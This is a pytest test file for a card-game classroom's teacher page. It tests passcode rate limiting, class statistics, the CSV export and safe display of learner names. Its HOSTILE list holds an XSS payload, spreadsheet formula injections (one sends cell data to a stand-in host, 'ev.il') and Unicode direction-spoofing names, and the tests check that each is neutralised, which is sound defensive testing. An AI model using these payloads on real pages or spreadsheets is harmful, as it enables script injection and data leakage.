"""The teacher's page: its gate (counted before judged, per page, per device and for
everyone), its numbers on a known set of answers, and learners' names shown as text (both
backends)."""
from __future__ import annotations

import base64
import csv
import io
import re

import pytest

from widgets.classroom import teacher as teacher_module
from widgets.classroom.config import Settings
from widgets.classroom.limits import GATE
from widgets.classroom.stats import percent
from widgets.classroom.store import Answer, format_code
from widgets.classroom.teacher import MAX_TRIES, TeacherPage

from classroom_helpers import hold_write_lock, make_read_only, make_writable

PASSCODE = "s3cret-passcode"


@pytest.fixture(autouse=True)
def no_delay(monkeypatch):
    monkeypatch.setattr(teacher_module, "WRONG_DELAY", 0)


def page(store, passcode=PASSCODE, device: str | None = "teachers-laptop-0001") -> TeacherPage:
    """A teacher page as a browser opens it: ``device`` is the id its browser keeps."""
    teacher = TeacherPage(Settings(database="unused", teacher_passcode=passcode), store=store,
                          environ={})
    if device is not None:
        teacher.browser.client = device
    return teacher


def known_class(store) -> str:
    """25 learners. Question 1 (4c vs 3d in Mineiro): 15 right, 8 chose the 3 of diamonds,
    2 said tie. Question 2: everyone right. Learner 0 is on lesson 03, the others on 01."""
    code = store.create_class("Room 4")
    for i in range(25):
        learner = store.join(code, f"Learner {i:02d}")
        store.visit(learner, "01_ranking", 0)
        if i == 0:
            store.visit(learner, "03_tricks", 2)
        given = "4c" if i < 15 else ("3d" if i < 23 else "tie")
        store.record_answer(learner, Answer("03_tricks", "trick-1", 1, 1, "mineiro", "4c 3d",
                                            given, "4c", given == "4c"))
        store.record_answer(learner, Answer("03_tricks", "trick-1", 2, 2, "mineiro", "5h 6s",
                                            "6s", "6s", True))
    store.record_answer(store.join(store.create_class(), "Elsewhere"), Answer(
        "03_tricks", "trick-1", 1, 1, "mineiro", "4c 3d", "3d", "4c", False))
    return code


def test_a_new_class_says_what_will_appear_and_when(store):
    # an empty chart and empty tables say nothing: each place says what comes there
    code = store.create_class("Room 9")
    teacher = page(store)
    assert teacher.unlock(PASSCODE)
    teacher.show(code)
    assert "tutor-plot" not in teacher.plot.value and "tutor-empty" in teacher.plot.value
    assert "fills in" in teacher.plot.value
    assert "Nobody has joined yet" in teacher.learners_html.value
    assert format_code(code) in teacher.learners_html.value
    assert "No question answered yet" in teacher.questions_html.value
    learner = store.join(code, "Ana")
    store.record_answer(learner, Answer("03_tricks", "trick-1", 1, 1, "mineiro", "4c 3d",
                                        "4c", "4c", True))
    teacher.refresh()  # the first answer: the chart and the tables replace the empty states
    assert "tutor-plot" in teacher.plot.value and "tutor-empty" not in teacher.plot.value
    assert "tutor-empty" not in teacher.learners_html.value + teacher.questions_html.value


def test_before_a_class_is_picked_only_its_panel_shows_and_says_what_comes(store):
    teacher = page(store)
    assert teacher.unlock(PASSCODE)
    first, *rest = teacher.class_box.children
    assert first.layout.display is None and all(p.layout.display == "none" for p in rest)
    assert "tutor-empty" in teacher.code_html.value and "No class picked yet" in \
        teacher.code_html.value
    code = teacher.new_class("Room 4")
    teacher.show(code)
    assert all(p.layout.display is None for p in teacher.class_box.children)
    assert format_code(code) in teacher.code_html.value
    assert "tutor-empty" not in teacher.code_html.value
    assert all("tutor-panel" in p._dom_classes for p in teacher.class_box.children)


def test_the_numbers_on_a_known_class(store):
    code = known_class(store)
    teacher = page(store)
    assert teacher.unlock(PASSCODE)
    teacher.show(code)
    (q1, q2) = teacher.questions
    assert (q1.key, q1.answers, q1.right, percent(q1.right, q1.answers)) == (
        ("03_tricks", "trick-1", 1), 25, 15, 60)
    assert q1.wrong == [("3d", 8), ("tie", 2)]
    assert (q2.answers, q2.right, q2.wrong) == (25, 25, [])
    html = teacher.questions_html.value
    assert ("32% chose the 3 of diamonds over the 4 of clubs (Zap); "
            "8% chose a tie over the 4 of clubs (Zap)") in html
    assert "60%" in html and "100%" in html
    learners = {s.name: s for s in teacher.learners}
    assert len(learners) == 25 and "Elsewhere" not in learners
    assert learners["Learner 00"].lesson == "03_tricks"
    assert learners["Learner 20"].lesson == "01_ranking"
    assert (learners["Learner 20"].answers, learners["Learner 20"].right) == (2, 1)
    assert "Learners (25)" in teacher.learners_html.value
    assert teacher.learners_html.value.count("1. The deck and the card ranking") == 24
    png = re.search(r'src="data:image/png;base64,([^"]+)"', teacher.plot.value).group(1)
    assert base64.b64decode(png).startswith(b"\x89PNG")
    link = re.search(r'href="data:text/csv;charset=utf-8;base64,([^"]+)"',
                     teacher.download.value)
    rows = list(csv.reader(io.StringIO(base64.b64decode(link.group(1)).decode())))
    assert rows[0][:4] == ["learner", "lesson", "quiz", "question"] and len(rows) == 51
    assert sum(1 for r in rows[1:] if r[9] == "1") == 40
    assert rows[1][0] == "Learner 00" and rows[1][10].endswith("+00:00")


def test_a_new_class_code_is_shown_to_project(store):
    teacher = page(store)
    assert teacher.new_class("Monday") is None  # locked: nothing
    teacher.unlock(PASSCODE)
    code = teacher.new_class("Monday")
    assert store.class_exists(code) and teacher.picker.value == code
    shown = format_code(code)  # KX7PQ-2MRTA: to read aloud
    assert shown in teacher.message and shown in teacher.code_html.value


def test_the_gate_refuses_wrong_passcodes(store):
    known_class(store)
    teacher = page(store)
    for wrong in ("", "s3cret", "S3CRET-PASSCODE", None, 12):
        assert not teacher.unlock(wrong)
        assert teacher.message == "Wrong passcode." and not teacher.unlocked
    assert teacher.body.children == () and teacher.learners == []
    assert not teacher.unlock(PASSCODE)  # MAX_TRIES reached: refused even if right
    assert teacher.tries == MAX_TRIES and "Too many" in teacher.message
    teacher.refresh()
    assert teacher.rows == []


def test_without_a_passcode_the_teacher_page_is_off(store):
    teacher = page(store, passcode=None)
    assert not teacher.unlock("") and not teacher.unlock("anything")
    assert "TRUCO_TEACHER_PASSCODE" in teacher.message and teacher.gate.layout.display == "none"


def test_under_a_hub_the_teachers_group_opens_the_page_and_no_passcode_does(store):
    """JupyterHub says who teaches (TRUCO_CLASSROOM_HUB_TEACHER, set by the hub for its
    teachers group): the page opens at once for them; for anyone else it stays shut, even
    with the school's passcode (a shared secret is not how a hub names its teachers)."""
    known_class(store)
    hub = dict(database="unused", teacher_passcode=PASSCODE, hub_user=True)
    teacher = TeacherPage(Settings(**hub, hub_teacher=True), store=store, environ={})
    assert teacher.unlocked and teacher.gate.layout.display == "none"
    assert teacher.learners  # the newest class's learners, shown
    learner = TeacherPage(Settings(**hub), store=store, environ={})
    assert not learner.unlock(PASSCODE) and not learner.unlocked
    assert "teachers group" in learner.message and learner.tone == "error"
    assert learner.body.children == () and learner.learners == []


def test_the_page_refreshes_itself_while_open(store):
    code = known_class(store)
    teacher = page(store)
    teacher.unlock(PASSCODE)
    teacher.show(code)
    assert teacher.ticker.running
    late = store.join(code, "Late")
    store.record_answer(late, Answer("03_tricks", "trick-1", 1, 1, "mineiro", "4c 3d", "3d",
                                     "4c", False))
    teacher._on_tick(teacher.ticker, {"type": "tick"}, [])  # what the page's timer sends
    assert teacher.questions[0].answers == 26 and teacher.questions[0].wrong[0] == ("3d", 9)
    assert "Learners (26)" in teacher.learners_html.value
    assert "35% chose the 3 of diamonds" in teacher.questions_html.value


def test_names_cannot_become_spreadsheet_formulas():
    from widgets.classroom.stats import csv_text

    row = (1, "=HYPERLINK(\"x\")", "03_tricks", "trick-1", 1, 1, "mineiro", "4c 3d", "3d",
           "4c", False, 0.0)
    line = list(csv.reader(io.StringIO(csv_text([row]))))[1]
    assert line[0] == "'=HYPERLINK(\"x\")" and line[10] == "1970-01-01T00:00:00+00:00"


def guess(store, device: str | None, n: int) -> TeacherPage:
    """``n`` wrong passcodes from ``device``, reloading the page whenever it refuses; the
    last page."""
    teacher = page(store, device=device)
    for i in range(n):
        if teacher.tries == MAX_TRIES:
            teacher = page(store, device=device)  # a reload: a new page, its count at 0
        assert not teacher.unlock(f"guess {i}") and teacher.message == "Wrong passcode."
    return teacher


def test_reloading_does_not_help_a_guesser(store, clock):
    teacher = guess(store, "a-learners-phone-01", GATE.client)
    assert not teacher.unlock(PASSCODE) and "Too many" in teacher.message
    reloaded = page(store, device="a-learners-phone-01")
    assert not reloaded.unlock(PASSCODE)
    assert "from this device" in reloaded.message and not reloaded.unlocked
    assert store.count_attempts("gate", clock() - GATE.window) == GATE.client


def test_one_learners_guesses_do_not_lock_the_teacher_out(store, clock):
    guess(store, "a-learners-phone-01", GATE.client)
    assert page(store, device="teachers-laptop-0001").unlock(PASSCODE)  # another device
    assert store.count_attempts("gate", clock() - GATE.window) == GATE.client  # right: free
    clock.advance(GATE.window + 1)
    assert page(store, device="a-learners-phone-01").unlock(PASSCODE)  # ten minutes later


def test_many_devices_close_the_page_for_everyone_for_a_while(store, clock):
    phones = [f"learner-phone-{i:04d}" for i in range(GATE.everyone // GATE.client)]
    for phone in phones:
        guess(store, phone, GATE.client)
    teacher = page(store, device="teachers-laptop-0001")
    assert not teacher.unlock(PASSCODE) and "closed for a few minutes" in teacher.message
    assert not page(store, device=None).unlock(PASSCODE)  # a page that sends no id: too
    clock.advance(GATE.window + 1)
    assert page(store, device="teachers-laptop-0001").unlock(PASSCODE)


def test_a_page_that_sends_no_device_id_counts_with_everyone(store, clock):
    guess(store, None, GATE.client)  # cannot be told apart: only the bound for everyone
    assert page(store, device=None).unlock(PASSCODE)
    assert page(store, device="teachers-laptop-0001").unlock(PASSCODE)


def test_a_signed_in_user_is_the_client_not_the_browser(store, clock):
    settings = Settings(database="unused", teacher_passcode=PASSCODE,
                        user_header="X-Forwarded-User")
    as_bia = {"HTTP_X_FORWARDED_USER": "bia"}
    for i in range(GATE.client):  # Bia throws her browser's id away on every page
        bia = TeacherPage(settings, store=store, environ=as_bia)
        bia.browser.client = f"fresh-id-{i:010d}"
        assert not bia.unlock("guess")
    bia = TeacherPage(settings, store=store, environ=as_bia)
    assert not bia.unlock(PASSCODE) and "from this device" in bia.message
    assert TeacherPage(settings, store=store, environ={"HTTP_X_FORWARDED_USER": "teacher"}
                       ).unlock(PASSCODE)


def test_a_passcode_is_not_judged_when_a_wrong_try_cannot_be_counted(store, clock):
    make_read_only(store)
    teacher = page(store)
    assert not teacher.unlock(PASSCODE)  # even the right one: it could have been a guess
    assert "cannot be checked now" in teacher.message and "read-only" in teacher.message
    assert not teacher.unlocked and teacher.body.children == ()
    make_writable(store)
    assert not teacher.unlock(PASSCODE)  # closed for a while: the database is not asked
    assert "cannot be checked now" in teacher.message
    assert store.count_attempts("gate", 0) == 0
    clock.advance(teacher_module.CLOSED_SECONDS + 1)
    assert teacher.unlock(PASSCODE)


def test_a_locked_database_closes_the_gate_too(store, db_url, clock, monkeypatch):
    monkeypatch.setattr(teacher_module, "GATE_WAIT", 0.2)
    teacher = page(store)
    with hold_write_lock(db_url):
        assert not teacher.unlock(PASSCODE) and "cannot be checked now" in teacher.message
    clock.advance(teacher_module.CLOSED_SECONDS + 1)
    assert teacher.unlock(PASSCODE)


def test_a_reset_database_is_said_on_the_open_teacher_page(store):
    code = known_class(store)
    teacher = page(store)
    teacher.unlock(PASSCODE)
    teacher.show(code)
    with store._tx() as cur:  # what a reset leaves: no such class
        for table in ("answers", "visits", "learners", "classes"):
            cur.execute(f"DELETE FROM {table}")
    teacher._on_tick(teacher.ticker, {"type": "tick"}, [])
    assert teacher.tone == "error" and "no longer in the class database" in teacher.message
    assert format_code(code) in teacher.message and not teacher.ticker.running


HOSTILE = ['<img src=x onerror="alert(1)">', '=HYPERLINK("http://ev.il/?"&A1)',
           "+1+2", "-2+3", "@SUM(A1:A9)", " =1+1", "\u202eexe.fdp", "Ana\u2067 \u2069Bia",
           "\u200fRTL\u200e mark", "Tab\there"]


def test_hostile_names_are_text_on_the_page_and_harmless_in_the_csv(store):
    code = store.create_class("Room 4")
    for name in HOSTILE:  # joined: cleaned on the way in
        store.record_answer(store.join(code, name), Answer(
            "03_tricks", "trick-1", 1, 1, "mineiro", "4c 3d", "3d", "4c", False))
    with store._tx() as cur:  # stored raw (by hand, or before names were cleaned)
        for i, name in enumerate(HOSTILE):
            cur.execute(store._sql("INSERT INTO learners (token, class_code, name, created) "
                                   "VALUES (?, ?, ?, 0)"), (f"raw-token-{i:020d}", code, name))
    raw = [store.learner(f"raw-token-{i:020d}") for i in range(len(HOSTILE))]
    for learner in raw:
        store.record_answer(learner, Answer("03_tricks", "trick-1", 1, 1, "mineiro", "4c 3d",
                                            "4c", "4c", True))
    teacher = page(store)
    teacher.unlock(PASSCODE)
    teacher.show(code)
    html = teacher.learners_html.value
    assert "<img" not in html and "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in html
    controls = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    assert not set(html) & set(controls)
    assert "exe.fdp" in html and "Learners (20)" in html
    assert html.count("<bdi>") == 20 * 6  # every cell isolated: no name reorders its row
    link = re.search(r'href="data:text/csv;charset=utf-8;base64,([^"]+)"',
                     teacher.download.value)
    text = base64.b64decode(link.group(1)).decode()
    assert not set(text) & set(controls)
    names = [r[0] for r in csv.reader(io.StringIO(text))][1:]
    assert len(names) == 20
    for name in names:
        assert name.lstrip(" ")[:1] not in ("=", "+", "-", "@", "\t") or name.startswith("'")
    assert "'=HYPERLINK(\"http://ev.il/?\"&A1)" in names
    assert "'@SUM(A1:A9)" in names and "' =1+1" in names


def test_a_question_with_two_right_answers_names_both():
    from widgets.classroom.stats import question_stats, wrong_answer_text

    rows = [(i, f"L{i}", "03_tricks", "trick-2", 1, 1, "mineiro", "4c 3d 2s 4d",
             "3d" if i < 3 else "4d", "4c 4d", i >= 3, float(i)) for i in range(4)]
    (stat,) = question_stats(rows)
    assert wrong_answer_text(stat) == (
        "75% chose the 3 of diamonds over the 4 of clubs (Zap) or the 4 of diamonds")


def test_questions_are_named_in_words_on_the_page(store):
    code = known_class(store)
    teacher = page(store)
    teacher.unlock(PASSCODE)
    teacher.show(code)
    html = teacher.questions_html.value
    assert ("3. Tricks and hands · Trick quiz, question 1: 4 of clubs (Zap) against "
            "3 of diamonds") in html
    assert "Trick quiz, question 2: 5 of hearts against 6 of spades" in html
    assert "trick-1" not in html and "4c 3d" not in html
    link = re.search(r'href="data:text/csv;charset=utf-8;base64,([^"]+)"',
                     teacher.download.value)
    rows = list(csv.reader(io.StringIO(base64.b64decode(link.group(1)).decode())))
    assert rows[0][-1] == "question_in_words"
    assert rows[1][-1] == "Trick quiz, question 1: 4 of clubs (Zap) against 3 of diamonds"


def a_learner_with_a_history(store):
    code = store.create_class("Room 4")
    ana, bia = store.join(code, "Ana"), store.join(code, "Bia")
    store.visit(ana, "03_tricks", 1)
    store.record_answer(ana, Answer("03_tricks", "trick-1", 1, 1, "paulista", "3s|6d Qc",
                                    "6d", "Qc", False))
    store.record_answer(ana, Answer("07_envido_flor", "envido-1", 1, 1, "argentino",
                                    "7e 6e 1o", "envido:33", "envido:33", True))
    store.record_answer(ana, Answer("03_tricks", "mystery-1", 1, 4, "mineiro", "<b>|zz",
                                    "zz", "yy", False))  # stored by a widget long gone
    store.record_answer(bia, Answer("03_tricks", "trick-1", 1, 1, "paulista", "3s|6d Qc",
                                    "Qc", "Qc", True))
    other = store.join(store.create_class(), "Elsewhere")
    store.record_answer(other, Answer("03_tricks", "trick-1", 1, 1, "paulista", "3s|6d Qc",
                                      "Qc", "Qc", True))
    return code, ana, bia, other


def test_one_learners_answers_lesson_by_lesson(store, monkeypatch):
    code, ana, bia, other = a_learner_with_a_history(store)
    asked = []
    monkeypatch.setattr(store, "passed_steps", lambda key: asked.append(key) or {
        "01_ranking": {0: 0, 1: 2, 2: 0}}, raising=False)  # the progress tables of steps
    monkeypatch.setattr(store, "lesson_stars", lambda key: {"01_ranking": 2}, raising=False)
    teacher = page(store)
    teacher.unlock(PASSCODE)
    teacher.show(code)
    assert [label for label, _id in teacher.learner_picker.options] == [
        "Pick a learner", "Ana", "Bia"]
    assert teacher.learner_html.value == ""
    teacher.learner_picker.value = ana.id  # what picking Ana in the menu does
    html = teacher.learner_html.value
    assert set(asked) == {f"class:{ana.id}"}  # her steps only (the map and the table)
    assert "<bdi>Ana</bdi>" in html and "Bia" not in html
    lessons = html.index("1. The deck and the card ranking"), html.index("3. Tricks and hands")
    assert lessons[0] < lessons[1] < html.index("7. Envido and flor")
    assert "★★☆" in html and ">3<" in html.replace("<bdi>", "").replace("</bdi>", "")
    assert ("Trick quiz, question 1: 6 of diamonds against queen of clubs, vira: 3 of spades"
            in html)
    assert "the 6 of diamonds" in html and "wrong" in html and "just now" in html
    assert "Envido quiz, question 1: the envido of 7 of espadas" in html
    assert "33 points of envido" in html and "right" in html
    assert "Question 4" in html  # an unknown quiz: a generic name, no traceback
    assert "trick-1" not in html and "mystery-1" not in html and "3s|6d" not in html
    assert "<b>" not in html
    teacher.show_learner(other.id)  # a learner of another class is nobody here
    assert teacher.learner_html.value == "" and teacher.learner_id is None
    teacher.learner_picker.value = bia.id
    store.record_answer(bia, Answer("07_envido_flor", "envido-1", 1, 1, "argentino",
                                    "7e 6e 1o", "envido:26", "envido:33", False))
    teacher._on_tick(teacher.ticker, {"type": "tick"}, [])  # the open view follows along
    assert teacher.learner_picker.value == bia.id
    assert "26 points of envido" in teacher.learner_html.value


def test_a_learner_without_answers_or_step_tables(store):
    code = store.create_class("Room 4")
    store.join(code, "Cai")
    teacher = page(store)
    teacher.unlock(PASSCODE)
    teacher.show(code)
    (cai,) = teacher.learners
    teacher.learner_picker.value = cai.id
    html = teacher.learner_html.value
    assert "No lesson opened yet." in html and "No answers yet." in html


def test_the_join_address_and_its_qr_code_are_shown_and_projected(store):
    code = known_class(store)
    env = {"VOILA_REQUEST_URL": "http://10.0.0.7:8866/voila/render/lessons/teacher.ipynb",
           "SCRIPT_NAME": "/voila/render/lessons/teacher.ipynb"}
    teacher = TeacherPage(Settings(database="unused", teacher_passcode=PASSCODE), store=store,
                          environ=env)
    teacher.browser.client = "teachers-laptop-0001"
    teacher.project(True)  # locked: nothing
    assert not getattr(teacher, "projecting", False)
    teacher.unlock(PASSCODE)
    teacher.show(code)
    url = f"http://10.0.0.7:8866/voila/render/lessons/index.ipynb?class={code}"
    html = teacher.code_html.value
    assert format_code(code) in html and f'href="{url}"' in html
    assert '<svg role="img"' in html and "works on this computer only" not in html
    teacher.project(True)
    assert teacher.class_box.layout.display == "none"
    assert teacher.project_box.layout.display == "flex"
    big = teacher.project_html.value
    assert format_code(code) in big and url in big and "<svg" in big and "72vh" in big
    assert ".jp-MarkdownCell,.tutor-footer" in big  # the page's prose hidden while projecting
    teacher.project(False)
    assert teacher.class_box.layout.display is None
    assert teacher.project_box.layout.display == "none" and teacher.project_html.value == ""


def test_a_local_address_is_said_to_work_on_this_computer_only(store):
    code = known_class(store)
    teacher = page(store)  # no request address: the server's default, 127.0.0.1
    teacher.unlock(PASSCODE)
    teacher.show(code)
    assert "works on this computer only" in teacher.code_html.value


def test_played_hands_and_puzzles_per_learner_and_for_the_class(store):
    code = store.create_class("Room 5")
    ana, bia = store.join(code, "Ana"), store.join(code, "Bia")
    teacher = page(store)
    assert teacher.unlock(PASSCODE)
    teacher.show(code)
    assert "Nothing yet" in teacher.skills_html.value  # the empty state says what will come
    store.add_skill(f"class:{ana.id}", "hand", "lead", 4, 3, 1.0)
    store.add_skill(f"class:{ana.id}", "hand", "answer", 2, 0, 6.0)
    store.add_skill(f"class:{bia.id}", "puzzle", "answer", 3, 1, 4.0)
    store.add_skill("anon:" + "X" * 22, "hand", "envido", 9, 0, 9.0)  # not in this class
    teacher.refresh()
    html = teacher.skills_html.value
    assert "graded best or good: 50% of 6" in html and "Puzzles solved: 33% of 3" in html
    assert "Themes most missed: Answering a raise (80% missed), Leading the first trick " \
           "(25% missed)" in html and "envido" not in html
    learners = teacher.learners_html.value
    assert learners.count("50% of 6") == 1 and learners.count("–") >= 1
    teacher.show_learner(ana.id)
    view = teacher.learner_html.value
    assert "Played hands and puzzles" in view and "0% of 2" in view and "75% of 4" in view
